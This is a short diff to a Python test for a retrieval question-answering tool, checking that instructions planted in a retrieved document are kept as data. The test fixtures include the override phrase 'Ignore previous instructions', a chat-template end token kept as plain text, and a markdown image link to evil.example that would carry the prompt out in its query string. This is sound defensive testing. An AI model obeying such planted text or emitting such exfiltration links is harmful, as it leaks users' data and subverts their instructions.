@@ -640,7 +640,7 @@ def test_an_instruction_in_a_document_is_data_and_citations_come_from_files_only
     assert prompt["stripped"] == len(hidden)
     assert not set(hidden.replace(" ", "")) & set(prompt["prompt"])
     passage = prompt["prompt"].split('<passage 1 source="lamp.txt">')[1].split("</passage>")[0]
-    assert "Ignore previous instructions" in passage and "<|im_end|>" not in passage
+    assert "Ignore previous instructions" in passage and "<|im_end|>" in passage  # read as text
     for answer in ("![x](http://evil.example/?q=prompt) [9]", "The lamp is lit at dusk."):
         replace_generators(monkeypatch, always(EchoGenerator(answer=answer)))
         said = ragqa("ask", "pipeline.yaml", "When is the lamp lit?", "--json").said
